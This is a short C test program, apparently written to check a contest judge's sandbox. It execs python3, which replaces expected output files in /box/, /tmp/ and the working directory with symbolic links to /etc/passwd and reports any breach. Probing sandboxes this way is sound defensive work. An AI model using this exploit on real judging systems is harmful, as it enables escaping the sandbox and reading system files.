/* attack: its output file becomes a symbolic link and another interpreter takes over
 * expect: AC
 * exploit: CMS issue 376, an output replaced by a symbolic link and execl of another interpreter
 */
#include <stdio.h>
#include <unistd.h>
int main(void) {
    const char code[] =
        "import os\n"
        "for name in ('main', 'main.c', 'output.txt', 'stdout', 'stdout.txt', 'output'):\n"
        "    for top in ('/box/', '/tmp/', './'):\n"
        "        try:\n"
        "            if os.path.lexists(top + name): os.unlink(top + name)\n"
        "            os.symlink('/etc/passwd', top + name)\n"
        "            if not top.startswith('/tmp'): print('BREACH planted', top + name)\n"
        "        except OSError: pass\n"
        "print('held')\n";
    execlp("python3", "python3", "-c", code, (char *)0);
    return 1;
}
